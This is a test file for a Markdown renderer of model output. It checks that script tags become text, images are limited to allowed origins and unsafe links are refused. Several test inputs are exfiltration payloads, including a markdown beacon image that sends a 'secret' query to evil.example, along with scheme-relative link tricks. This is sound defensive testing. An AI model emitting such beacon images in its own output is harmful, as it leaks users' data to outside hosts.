import { describe, expect, it } from 'vitest';
import { hostileInputs } from '../test/hostile.js';
import { createStreamingMarkdown, parseMarkdown } from './streaming-markdown.js';
import type { MarkdownNode } from './tree.js';

function* walk(nodes: readonly MarkdownNode[]): Generator<MarkdownNode> {
  for (const node of nodes) {
    yield node;
    if (node.type === 'element') yield* walk(node.children);
  }
}

function assertSafe(nodes: readonly MarkdownNode[]): void {
  for (const node of walk(nodes)) {
    if (node.type !== 'element') continue;
    // With the default policy no image element exists at all: blocked images are placeholders.
    expect(node.tagName).not.toBe('img');
    expect(node.properties).not.toHaveProperty('src');
    if (node.tagName === 'a') {
      expect(node.properties.href).toMatch(/^(https?:\/\/[^/\\]|mailto:)/);
      expect(node.properties.rel).toBe('noopener noreferrer nofollow');
    }
  }
}

describe('hostile model output', () => {
  it.each(hostileInputs)('is inert: %s', (input) => {
    const nodes = parseMarkdown(input);
    assertSafe(nodes);
    // Every prefix, as it streams, is inert too.
    const doc = createStreamingMarkdown();
    for (let end = 1; end <= input.length; end++)
      assertSafe(doc.update(input.slice(0, end)).blocks.flatMap((b) => b.nodes));
  });

  it('shows raw HTML as text', () => {
    expect(parseMarkdown('<script>alert(1)</script>')).toEqual([
      {
        type: 'element',
        tagName: 'p',
        properties: {},
        children: [{ type: 'text', value: '<script>alert(1)</script>' }],
      },
    ]);
  });

  it('replaces a beacon image with a placeholder that names the refused origin', () => {
    const [paragraph] = parseMarkdown('![](https://evil.example/?q=secret)');
    expect(paragraph).toEqual({
      type: 'element',
      tagName: 'p',
      properties: {},
      children: [
        {
          type: 'element',
          tagName: 'blocked-image',
          properties: { alt: '', blockedOrigin: 'https://evil.example' },
          children: [],
        },
      ],
    });
  });

  it('loads images only from configured origins', () => {
    const urlPolicy = { imageOrigins: ['https://images.example'] };
    const [allowed] = parseMarkdown('![chart](https://images.example/c.png)', { urlPolicy });
    expect(allowed).toMatchObject({
      children: [{ tagName: 'img', properties: { src: 'https://images.example/c.png' } }],
    });
    const [refused] = parseMarkdown('![chart](https://evil.example/c.png)', { urlPolicy });
    expect(refused).toMatchObject({ children: [{ tagName: 'blocked-image' }] });
  });

  it('renders a refused link as its text', () => {
    expect(parseMarkdown('[docs](//evil.example)')).toEqual([
      { type: 'element', tagName: 'p', properties: {}, children: [{ type: 'text', value: 'docs' }] },
    ]);
    expect(parseMarkdown('[docs](ftp://files.example)', { urlPolicy: { linkProtocols: ['ftp:'] } })).toMatchObject([
      { children: [{ tagName: 'a', properties: { href: 'ftp://files.example/' } }] },
    ]);
  });
});

describe('scheme-relative targets', () => {
  it('are refused without a base, since their destination depends on the page', () => {
    for (const input of ['[x](https:evil.example)', '[x](http:evil.example)', '[x](//evil.example)']) {
      expect(parseMarkdown(input), input).toEqual([
        { type: 'element', tagName: 'p', properties: {}, children: [{ type: 'text', value: 'x' }] },
      ]);
    }
  });

  it('render resolved against the base, so the link goes where the policy looked', () => {
    const urlPolicy = { baseUrl: 'http://app.example/chat' };
    expect(parseMarkdown('[x](https:evil.example)', { urlPolicy })).toMatchObject([
      { children: [{ tagName: 'a', properties: { href: 'https://evil.example/' } }] },
    ]);
    const images = { baseUrl: 'http://app.example/chat', imageOrigins: ['https://evil.example'] };
    expect(parseMarkdown('![x](https:evil.example/a.png)', { urlPolicy: images })).toMatchObject([
      { children: [{ tagName: 'img', properties: { src: 'https://evil.example/a.png' } }] },
    ]);
    // On an http page `https:a.png` names the host `a.png`, and the placeholder says so.
    expect(parseMarkdown('![x](https:a.png)', { urlPolicy: images })).toMatchObject([
      { children: [{ tagName: 'blocked-image', properties: { blockedOrigin: 'https://a.png' } }] },
    ]);
  });
});
